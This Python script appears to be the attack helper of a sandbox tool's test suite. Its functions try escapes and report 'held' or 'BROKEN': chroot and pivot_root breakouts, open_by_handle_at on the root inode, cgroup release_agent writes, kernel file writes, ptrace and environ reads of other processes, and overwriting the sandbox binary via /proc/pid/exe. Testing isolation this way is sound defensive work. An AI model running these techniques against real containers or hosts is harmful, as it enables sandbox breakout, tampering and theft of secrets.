#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""What an attacker tries from inside of a sandbox: attack.py NAME [ARGUMENTS].

Each attack ends with lines "held: ..." for what did not work and "BROKEN: ..." for what did. One that
has nothing to say has a mistake, and is a failure of its test.
"""
import ctypes
import errno
import glob
import os
import re
import signal
import socket
import stat
import sys

libc = ctypes.CDLL(None, use_errno=True)
X86_64 = os.uname().machine == "x86_64"

MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE = 1, 32, 4096, 16384, 1 << 18
MNT_DETACH = 2
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
MOUNT_ATTR_RDONLY, AT_FDCWD, AT_RECURSIVE, AT_EMPTY_PATH = 1, -100, 0x8000, 0x1000
SYS = {
    "pivot_root": 155 if X86_64 else 41,
    "mount_setattr": 442,
    "open_tree": 428,
    "clone3": 435,
    "clone": 56 if X86_64 else 220,
    "process_vm_readv": 310 if X86_64 else 270,
    "keyctl": 250 if X86_64 else 219,
    "io_uring_setup": 425,
    "ioctl": 16 if X86_64 else 29,
    "bpf": 321 if X86_64 else 280,
    "open_by_handle_at": 304 if X86_64 else 265,
}


def held(text):
    print("held:", text)


def broken(text):
    print("BROKEN:", text)


def check(is_held, text):
    (held if is_held else broken)(text)


def call(name, *args):
    """The errno of a system call, 0 when it works."""
    args = [a if isinstance(a, (bytes, ctypes.Array)) or a is None else ctypes.c_long(a) for a in args]
    ctypes.set_errno(0)
    return ctypes.get_errno() if libc.syscall(SYS[name], *args) < 0 else 0


def libc_call(name, *args):
    ctypes.set_errno(0)
    return ctypes.get_errno() if getattr(libc, name)(*args) < 0 else 0


def mount(source, target, kind, flags, data=None):
    return libc_call("mount", source, target, kind, ctypes.c_ulong(flags), data)


def in_child(function, *args):
    """Attacks that change the process itself go into one of their own."""
    sys.stdout.flush()
    pid = os.fork()
    if pid == 0:
        try:
            function(*args)
        except Exception as error:  # a refusal somewhere on the way
            held(f"{function.__name__}: {error}")
        sys.stdout.flush()
        os._exit(0)
    os.waitpid(pid, 0)


def new_user_and_mount_namespace():
    """True when the attacker has a user and a mount namespace of its own, with every capability."""
    if libc_call("unshare", CLONE_NEWUSER | CLONE_NEWNS):
        return False
    for name, text in (("uid_map", "0 0 1"), ("setgroups", "deny"), ("gid_map", "0 0 1")):
        try:
            with open("/proc/self/" + name, "w", encoding="ascii") as f:
                f.write(text)
        except OSError:
            pass
    return True


def enter_own(flags):
    """False when the namespaces that the attacker wants first are not to be had."""
    got = not flags or (new_user_and_mount_namespace() if flags & CLONE_NEWUSER
                        else libc_call("unshare", flags) == 0)
    if not got:
        held("no namespace of one's own")
    return got


OWN = (0, CLONE_NEWNS, CLONE_NEWUSER | CLONE_NEWNS)


def mount_points():
    with open("/proc/self/mountinfo", encoding="utf-8", errors="surrogateescape") as f:
        return [line.split()[4].encode().decode("unicode_escape") for line in f]


# --- out of the root ---------------------------------------------------------------------------


def sees(marker, how):
    check(not os.path.exists(marker), f"{how}: the host's file is not there")


def by_chroot(marker):
    top = os.open("/", os.O_RDONLY)
    os.makedirs("/tmp/jail", exist_ok=True)
    os.chroot("/tmp/jail")
    os.fchdir(top)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    sees(marker, "chroot and ..")


def by_dots(marker):
    for start in ("/", "/proc/self/root", "/proc/self/cwd", "/dev", "/usr"):
        sees(start + "/.." * 64 + marker, f".. from {start}")


def by_proc(marker):
    for link in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
        sees(link + marker, link)
        sees(link + "/.." * 32 + marker, link + " and ..")
    for link in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            if os.path.isdir(link):
                sees(link + marker, link)
        except OSError:
            pass


def by_umount(marker, own_namespace):
    if own_namespace and not new_user_and_mount_namespace():
        held("no namespace of one's own")
        return
    for point in reversed(mount_points()):
        libc_call("umount2", os.fsencode(point), MNT_DETACH)
    sees(marker, "unmounting everything")
    for _ in range(8):
        libc_call("umount2", b"/", MNT_DETACH)
        os.chdir("/")
        sees(marker, "unmounting the root")


def by_pivot(marker, own_namespace):
    if own_namespace and not new_user_and_mount_namespace():
        held("no namespace of one's own")
        return
    os.makedirs("/tmp/new", exist_ok=True)
    mount(b"none", b"/tmp/new", b"tmpfs", 0)
    os.makedirs("/tmp/new/old", exist_ok=True)
    call("pivot_root", b"/tmp/new", b"/tmp/new/old")
    os.chdir("/")
    for start in ("/", "/old", "/old/..", "/tmp/new/old"):
        sees(start + marker, "pivot_root, " + start)
        sees(start + "/.." * 32 + marker, "pivot_root and .., " + start)


def by_handle(marker):
    """The file handle of inode 2, the root directory of most file systems (the 2014 container escape)."""
    handle = (ctypes.c_ubyte * 16).from_buffer_copy(
        (8).to_bytes(4, sys.byteorder) + (1).to_bytes(4, sys.byteorder) + (2).to_bytes(8, sys.byteorder))
    fd = os.open("/usr", os.O_RDONLY)
    check(call("open_by_handle_at", fd, handle, 0) != 0, "a handle opens nothing: " + marker)


def leave_root(marker):
    in_child(by_dots, marker)
    in_child(by_proc, marker)
    in_child(by_chroot, marker)
    in_child(by_handle, marker)
    for own in (False, True):
        in_child(by_umount, marker, own)
        in_child(by_pivot, marker, own)


# --- mounts ------------------------------------------------------------------------------------


def try_write(path, how):
    try:
        with open(path, "r+", encoding="ascii") as f:
            f.write("evil\n")
        broken(f"{how}: wrote {path}")
    except OSError as error:
        held(f"{how}: {error.strerror}")


def by_remount(directory, own):
    if not enter_own(own):
        return
    d = os.fsencode(directory)
    attr = (0).to_bytes(8, sys.byteorder) + MOUNT_ATTR_RDONLY.to_bytes(8, sys.byteorder) + bytes(16)
    mount(b"none", d, None, MS_REMOUNT | MS_BIND)
    try_write(directory + "/file", "remount")
    call("mount_setattr", AT_FDCWD, d, 0, attr, len(attr))
    try_write(directory + "/file", "mount_setattr")
    os.makedirs("/tmp/copy", exist_ok=True)
    mount(d, b"/tmp/copy", None, MS_BIND)
    mount(b"none", b"/tmp/copy", None, MS_REMOUNT | MS_BIND)
    try_write("/tmp/copy/file", "bind and remount")
    fd = libc.syscall(SYS["open_tree"], AT_FDCWD, d, 1)
    if fd >= 0:
        call("mount_setattr", fd, b"", AT_EMPTY_PATH, attr, len(attr))
        try_write(f"/proc/self/fd/{fd}/file", "a clone of the tree, made writable")
    mount(b"none", d, b"tmpfs", MS_REMOUNT)
    try_write(directory + "/file", "remount of the file system")


def remount(directory):
    try_write(directory + "/file", "as it is")
    for own in OWN:
        in_child(by_remount, directory, own)


def by_unmask(path, own):
    if not enter_own(own):
        return
    for _ in range(4):
        libc_call("umount2", os.fsencode(path), MNT_DETACH)
    secret = open(path, encoding="ascii").read() if os.path.isfile(path) else ""
    check("secret" not in secret, "the mask stays")
    fd = libc.syscall(SYS["open_tree"], AT_FDCWD, os.fsencode(os.path.dirname(path)), 1)
    if fd >= 0:
        name = f"/proc/self/fd/{fd}/" + os.path.basename(path)
        text = open(name, encoding="ascii").read() if os.path.exists(name) else ""
        check("secret" not in text, "a clone of the tree without the mask")
    os.makedirs("/tmp/unmask", exist_ok=True)
    mount(os.fsencode(os.path.dirname(path)), b"/tmp/unmask", None, MS_BIND)
    name = "/tmp/unmask/" + os.path.basename(path)
    text = open(name, encoding="ascii").read() if os.path.exists(name) else ""
    check("secret" not in text, "a bind of the tree without the mask")
    data = b"lowerdir=/usr:" + os.fsencode(os.path.dirname(path))
    mount(b"overlay", b"/tmp/unmask", b"overlay", 0, data)
    text = open(name, encoding="ascii").read() if os.path.exists(name) else ""
    check("secret" not in text, "an overlay of the tree without the mask")
    libc_call("umount2", os.fsencode(os.path.dirname(path)), MNT_DETACH)
    check("secret" not in (open(path, encoding="ascii").read() if os.path.isfile(path) else ""),
          "the tree below it unmounted")


def unmask(path):
    for own in OWN:
        in_child(by_unmask, path, own)


def propagate(directory):
    """The test looks at the host afterwards."""
    def mount_there(own):
        if own and not new_user_and_mount_namespace():
            held("no namespace of one's own")
            return
        mount(b"none", b"/", None, MS_REC | (1 << 20))  # MS_SHARED
        r = mount(b"none", os.fsencode(directory), b"tmpfs", 0)
        open(directory + "/from-inside", "w", encoding="ascii").close()
        held(f"mounted: {errno.errorcode.get(r, 'yes')}")

    for own in (False, True):
        in_child(mount_there, own)


# --- the kernel --------------------------------------------------------------------------------

NAMESPACED = re.compile(
    r"/proc/sys/(net/|user/|fs/mqueue/|fs/binfmt_misc/"
    r"|kernel/(pid_max$|shm|msg|sem|ns_last_pid$|hostname$|domainname$|auto_msgmni$|keys/|random/uuid))")


def kernel_files():
    for top in ("/proc/sys", "/sys"):
        for directory, _, names in os.walk(top):
            for name in names:
                yield os.path.join(directory, name)
    for name in ("sysrq-trigger", "kcore", "kmsg", "kallsyms", "config.gz", "timer_list", "mtrr", "slabinfo"):
        yield "/proc/" + name
    yield from glob.glob("/proc/irq/*/smp_affinity")
    yield from glob.glob("/proc/bus/*/*")
    yield from glob.glob("/proc/fs/*/*")
    yield from glob.glob("/proc/acpi/*")


def write_kernel():
    tried = 0
    for path in kernel_files():
        tried += 1
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            # CAP_DAC_OVERRIDE opens what has nothing that could be written to
            if os.path.basename(path) in ("kallsyms", "config.gz", "timer_list", "slabinfo"):
                os.write(fd, b"x")
            os.close(fd)
        except OSError:
            continue
        if not NAMESPACED.match(path):
            broken("writable: " + path)
    check(tried > 100, f"{tried} files of the kernel tried")
    for path in ("/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmsg", "/dev/port"):
        try:
            with open(path, "rb") as f:
                data = f.read(64)
            # kcore has an ELF header that tells nothing but needs CAP_SYS_RAWIO
            broken(f"read {len(data)} bytes of {path}")
        except OSError as error:
            held(f"{path}: {error.strerror}")


def make_devices():
    for directory in ("/tmp", "/dev", "/dev/shm"):
        for kind, numbers in ((stat.S_IFBLK, (254, 0)), (stat.S_IFBLK, (8, 0)), (stat.S_IFCHR, (1, 1))):
            path = f"{directory}/node"
            try:
                os.mknod(path, kind | 0o600, os.makedev(*numbers))
                os.close(os.open(path, os.O_RDONLY))
                broken(f"a device node works in {directory}")
            except OSError as error:
                held(f"device node in {directory}: {error.strerror}")
            if os.path.lexists(path):
                os.unlink(path)


def cgroup_agents():
    os.makedirs("/tmp/cg", exist_ok=True)
    for kind, data in ((b"cgroup", b"memory"), (b"cgroup", b"rdma"), (b"cgroup", b"none,name=evil"), (b"cgroup2", None)):
        r = mount(b"none", b"/tmp/cg", kind, 0, data)
        if r:
            held(f"{kind.decode()}: {os.strerror(r)}")
            continue
        agents = glob.glob("/tmp/cg/**/release_agent", recursive=True)
        for agent in agents:
            try_write(agent, kind.decode())
        for file in ("cgroup.procs", "cgroup.subtree_control", "cgroup.freeze", "cgroup.kill"):
            if os.path.exists("/tmp/cg/" + file):
                try:
                    os.close(os.open("/tmp/cg/" + file, os.O_WRONLY))
                    broken("writable: " + file)
                except OSError as error:
                    held(f"{file}: {error.strerror}")
        held(f"{kind.decode()}: mounted, {len(agents)} release agents")
        libc_call("umount2", b"/tmp/cg", MNT_DETACH)


def refused_calls():
    def error_of_socket(family):
        try:
            socket.socket(family, socket.SOCK_STREAM).close()
            return 0
        except OSError as error:
            return error.errno

    check(call("keyctl", 0, -3, 0) == errno.EPERM, "the session keyring")
    check(call("io_uring_setup", 1, None) == errno.ENOSYS, "io_uring")
    check(call("bpf", 0, None, 0) == errno.EPERM, "bpf")
    check(error_of_socket(40) == errno.EAFNOSUPPORT, "vsock")
    check(error_of_socket(38) == errno.EAFNOSUPPORT, "the kernel's ciphers (AF_ALG)")
    for upper in (0, 1 << 32, 0x7fffffff << 32):
        check(call("ioctl", 0, upper | 0x5412, b"x") == errno.EPERM, f"TIOCSTI | {upper:x}")
        check(call("ioctl", 0, upper | 0x541c, b"\3") == errno.EPERM, f"TIOCLINUX | {upper:x}")


def user_namespaces():
    check(libc_call("unshare", CLONE_NEWUSER) != 0, "unshare")
    flags = CLONE_NEWUSER | signal.SIGCHLD
    pid = libc.syscall(SYS["clone"], ctypes.c_long(flags), None, None, None, ctypes.c_long(0))
    if pid == 0:
        os._exit(0)
    check(pid < 0, "clone")
    args = (ctypes.c_uint64 * 11)(CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD)
    pid = libc.syscall(SYS["clone3"], args, ctypes.c_long(ctypes.sizeof(args)))
    if pid == 0:
        os._exit(0)
    check(pid < 0, "clone3")
    for name in glob.glob("/proc/sys/user/max_user_namespaces"):
        try_write(name, "the limit")


def privileges():
    status = dict(line.split(":\t", 1) for line in open("/proc/self/status", encoding="ascii") if ":\t" in line)
    check(status["NoNewPrivs"].strip() == "1", "no_new_privs is set")
    for point in mount_points():
        try:
            flags = os.statvfs(point).f_flag
        except OSError:
            continue
        check(flags & os.ST_NOSUID, f"nosuid: {point}")
    for path in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount", "/usr/bin/newuidmap"):
        if os.path.exists(path) and os.stat(path).st_mode & stat.S_ISUID:
            check(os.stat(path).st_uid != 0 or os.geteuid() == 0, f"setuid {path} is not root's inside")


# --- processes ---------------------------------------------------------------------------------


def descriptors():
    for fd in sorted(int(n) for n in os.listdir("/proc/self/fd")):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except FileNotFoundError:
            continue  # the directory that was listed
        check(fd <= 2, f"descriptor {fd}: {target}")
    check(not os.getcwd().startswith("(unreachable)"), "the working directory: " + os.getcwd())
    for link in glob.glob("/proc/1/fd/*"):
        try:
            target = os.readlink(link)
        except OSError:
            continue
        standard = int(os.path.basename(link)) <= 2
        check(standard or target.startswith(("socket:", "pipe:", "anon_inode:")), f"{link}: {target}")


def kill_outside(pid):
    pid = int(pid)
    for what in (pid, -pid):
        for number in (signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(what, number)
                broken(f"signalled {what}")
            except OSError as error:
                held(f"kill {what}: {error.strerror}")


def trace_outside(*pids):
    """In a shared pid namespace, processes of the same user."""
    class Iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    for pid in map(int, pids):
        check(libc.ptrace(16, pid, None, None) < 0, f"PTRACE_ATTACH {pid}")
        check(libc.ptrace(0x4206, pid, None, None) < 0, f"PTRACE_SEIZE {pid}")
        buffer = ctypes.create_string_buffer(8)
        mine, theirs = Iovec(ctypes.addressof(buffer), 8), Iovec(0x10000, 8)
        libc.process_vm_readv.restype = ctypes.c_ssize_t
        ctypes.set_errno(0)
        libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
        check(ctypes.get_errno() == errno.EPERM, f"process_vm_readv {pid}")
        for name in ("mem", "environ", "maps", "auxv"):
            try:
                open(f"/proc/{pid}/{name}", "rb").read(1)
                broken(f"/proc/{pid}/{name}")
            except OSError as error:
                held(f"/proc/{pid}/{name}: {error.strerror}")
        for name in ("exe", "root", "cwd"):
            try:
                os.readlink(f"/proc/{pid}/{name}")
                broken(f"/proc/{pid}/{name}")
            except OSError as error:
                held(f"/proc/{pid}/{name}: {error.strerror}")


def read_environments(secret):
    """Of every process that can be seen, pid 1 above all: sbx got the caller's whole environment."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "mem"):
            path = f"/proc/{pid}/{name}"
            try:
                with open(path, "rb") as f:
                    found = secret.encode() in f.read() if name == "environ" else int(pid) == 1
                check(not found, path)
            except OSError as error:
                held(f"{path}: {error.strerror}")


def kill_init():
    for number in range(1, signal.SIGRTMAX + 1):
        try:
            os.kill(1, number)
        except OSError:
            pass
    with open("/proc/1/stat", encoding="ascii") as f:
        state = f.read().rsplit(")", 1)[1].split()[0]
    check(state in "SRD", f"pid 1 lives, in state {state}")


def overwrite_program():
    for link in glob.glob("/proc/[0-9]*/exe"):
        for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC):
            try:
                if not os.readlink(link).endswith("sbx"):
                    continue
                os.close(os.open(link, flags))
                broken(f"opened {link} for writing")
            except OSError as error:
                held(f"{link}: {error.strerror}")
    held("looked at every program")


def overwrite_later(seconds):
    """Holds a handle on sbx, ends sbx's process, and writes when nobody runs it any more."""
    import time
    handles, victims = [], []
    for link in glob.glob("/proc/[0-9]*/exe"):
        try:
            if os.readlink(link).endswith("/own-sbx"):
                handles.append(os.open(link, os.O_PATH))
                victims.append(int(link.split("/")[2]))
        except OSError:
            pass
    print(f"found {len(handles)} processes of sbx", flush=True)
    if os.fork():
        os._exit(0)
    os.setsid()
    for pid in victims:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for _ in range(int(seconds) * 20):
        for handle in handles:
            try:
                fd = os.open(f"/proc/self/fd/{handle}", os.O_WRONLY)
                os.write(fd, b"#!/bin/sh\necho evil\n")
                os._exit(1)
            except OSError:
                pass
        time.sleep(0.05)
    os._exit(0)


def connect_abstract(name):
    with socket.socket(socket.AF_UNIX) as s:
        try:
            s.connect("\0" + name)
            broken("connected to the host's abstract socket")
        except OSError as error:
            held(f"abstract socket: {error.strerror}")


def ipc(*numbers):
    """The host's System V objects: their keys and numbers, and their lists."""
    shm, msg, sem, key = map(int, numbers)
    libc.shmat.restype = ctypes.c_void_p
    for name, error in (
            ("shmget", libc_call("shmget", key, ctypes.c_size_t(16), 0)),
            ("msgget", libc_call("msgget", key, 0)),
            ("semget", libc_call("semget", key, 1, 0)),
            ("shmctl", libc_call("shmctl", shm, 2, ctypes.create_string_buffer(512))),
            ("msgctl", libc_call("msgctl", msg, 2, ctypes.create_string_buffer(512))),
            ("semop", libc_call("semop", sem, bytes((0, 0, 1, 0, 0, 8)), ctypes.c_size_t(1)))):
        check(error != 0, f"{name}: {os.strerror(error)}")
    ctypes.set_errno(0)
    check(libc.shmat(shm, None, 0) == ctypes.c_void_p(-1).value, "shmat")
    for kind in ("shm", "msg", "sem"):
        with open("/proc/sysvipc/" + kind, encoding="ascii") as f:
            check(len(f.readlines()) == 1, f"the list of {kind} is empty")


def reuse_pid(marker):
    """A child that outlives the payload takes over its number, and ends with another status."""
    import time
    payload = os.getpid()
    if os.fork():
        held("the payload ends")
        sys.stdout.flush()
        os._exit(42)
    while os.path.exists(f"/proc/{payload}"):
        time.sleep(0.01)
    for _ in range(200):
        try:
            with open("/proc/sys/kernel/ns_last_pid", "w", encoding="ascii") as f:
                f.write(str(payload - 1))
        except OSError:
            pass
        if os.fork() == 0:
            if os.getpid() == payload:
                with open(marker, "w", encoding="ascii") as f:
                    f.write("reused")
            os._exit(77)
        os.wait()


def is_in_root():
    """The directory of the start, and what can be reached from it."""
    try:
        where = os.getcwd()
    except OSError:
        where = "nowhere"
    check(where.startswith("/"), "the directory is " + where)
    check(not os.path.exists("marker"), "no file of the host's")
    check(os.stat("/" + "../" * 64).st_ino == os.stat("../" * 64).st_ino, ".. ends at the root")


ATTACKS = {f.__name__: f for f in (
    leave_root, remount, unmask, propagate, write_kernel, make_devices, cgroup_agents, refused_calls,
    user_namespaces, privileges, descriptors, kill_outside, trace_outside, read_environments, kill_init,
    overwrite_program, overwrite_later, connect_abstract, ipc, reuse_pid, is_in_root)}

ATTACKS[sys.argv[1]](*sys.argv[2:])
